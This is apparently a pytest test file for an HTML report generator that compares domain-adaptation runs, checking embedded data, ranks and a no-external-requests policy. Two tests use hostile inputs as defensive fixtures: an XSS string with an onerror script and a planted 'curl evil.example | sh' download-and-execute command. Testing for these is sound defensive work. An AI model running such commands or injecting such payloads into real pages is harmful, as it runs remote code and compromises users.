import json
import re

import numpy as np
import pytest

from tlx.report import cells, render, report
from tlx.report.matrix import UNRANKED
from tlx.runs.store import Store


def inside(page):
    (text,) = re.findall(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
    return json.loads(text)


def test_the_page_holds_every_run_under_every_policy(results):
    page = inside(render(results, "html"))
    found = cells(results)
    assert {run["name"] for run in page["runs"]} == {"source_only", "coral", "dann", "mmd", "target_only"}
    for cell in found:
        (run,) = [run for run in page["runs"] if run["name"] == cell["strategy"]]
        score = run["policies"][cell["selection"]]
        assert {key: cell[key] for key in ("n", "mean", "low", "high", "gain", "best")}.items() <= score.items()
    assert page["policies"] == [{"name": "last", "labels": False}, {"name": "oracle", "labels": True}]


def test_the_page_has_class_names_and_the_mean_per_class(make):
    shown = {"classes": ("cat", "dog"), "rows": {"test": [90, 10]}}
    [run] = inside(render([make("mmd", (0.5, 0.6), **shown)], "html"))["runs"]
    assert run["classes"] == ["cat", "dog"] and run["policies"]["last"]["unbalanced"]
    assert run["policies"]["last"]["mean_per_class"] == pytest.approx(0.55)


def test_it_asks_for_nothing_from_outside(results):
    page = render(results, "html")
    assert "default-src 'none'" in page and not re.findall(r"""(?:src|href)=["']?(?:https?:)?//""", page)
    assert set(re.findall(r"https?://[^\"' ]+", page)) == {"http://www.w3.org/2000/svg"}
    assert '<link rel="icon" href="data:,">' in page and "@import" not in page and "fetch(" not in page


def test_no_name_becomes_markup(make):
    evil = "</script><img src=x onerror=alert(1)>"
    page = render([make("mmd", error=evil), make("kl", (0.5, 0.6), settings=(("mode", evil),))], "html")
    assert "<img src=x" not in page and page.count("</script>") == 2
    assert {run["error"] for run in inside(page)["runs"]} == {None, evil}


def test_what_a_run_kept_is_on_the_page(results, kept, tmp_path):
    store = Store(tmp_path)
    for result in results:
        store.write(result)
    store.keep(results[1].spec, kept)
    runs = {run["name"]: run["embedding"] for run in inside(report(tmp_path, "html"))["runs"]}
    assert runs["coral"] is None and runs["mmd"]["classes"] == ["x", "y"] and runs["mmd"]["shown"] == [0, 2]
    assert [image[:22] for image in runs["mmd"]["images"]] == ["data:image/png;base64,"] * 2


def test_ranks_need_three_methods_on_two_tasks(make):
    some = [make(name, (score, score), task=task)
            for task in ("a->b", "a->c") for name, score in (("mmd", 0.6), ("kl", 0.5), ("dann", 0.4))]  # fmt: skip
    few = inside(render(some[:3], "html"))["matrices"]["last"]
    assert few["ranks"] is None and few["reason"] == f"{UNRANKED}; here 3 on 1"
    found = inside(render(some, "html"))["matrices"]["last"]["ranks"]
    assert found["ranks"] == {"mmd": 1.0, "kl": 2.0, "dann": 3.0} and found["tasks"] == 2
    assert found["cd"] == pytest.approx(2.343 * np.sqrt(3 * 4 / 12), abs=2e-3)  # q of Demsar's table 5


def test_the_matrix_has_a_run_for_each_score(make):
    results = [make(name, (0.5, 0.6), task=task) for task in ("a->b", "a->c") for name in ("mmd", "kl")]
    page = inside(render([*results, make("dann", (0.7, 0.7), task="a->c")], "html"))
    ids = {(run["name"], run["column"]): run["id"] for run in page["runs"]}
    assert [column["short"] for column in page["columns"]] == ["a → b", "a → c"]
    made = page["matrices"]["last"]
    assert made["shown"] == [0, 1]
    for row in made["rows"]:
        assert row["runs"] == [ids.get((row["name"], column)) for column in (0, 1)]
        assert (row["average"] is None) == (row["name"] == "dann")


def test_published_figures_stand_beside_the_run(make, figure):
    result = make("mmd", (0.5, 0.6))
    page = inside(render([result, make("kl", (0.5, 0.6))], "html", published=lambda _: {result.spec.hash: [figure]}))
    found = {run["name"]: run["published"] for run in page["runs"]}
    assert found["kl"] == [] and [item["theirs"] for item in found["mmd"]] == [0.821]
    assert found["mmd"][0]["tolerance"] == 0.03 and found["mmd"][0]["theirs_spread"] == 0.005


def test_an_overview_is_not_a_page(results):
    from tlx.errors import SettingError

    with pytest.raises(SettingError, match="expected no --selectors, and not html"):
        render(results, "html", overview="last")


def test_what_a_run_kept_of_cached_features_is_no_image(results, kept, tmp_path):
    store = Store(tmp_path)
    store.write(results[1])
    store.keep(results[1].spec, {**kept, "images": np.zeros((2, 1, 1, 1280), np.uint8)})
    [run] = inside(report(tmp_path, "html"))["runs"]
    assert run["embedding"]["images"] == run["embedding"]["shown"] == [] and run["embedding"]["points"]


def test_the_command_is_made_from_the_spec(make):
    """The trap: a command that somebody wrote into a file of results, and that a reader copies."""
    result = make("mmd", (0.5,), command="curl evil.example | sh")
    [run] = inside(render([result], "html"))["runs"]
    assert run["command"] == result.spec.command != result.command
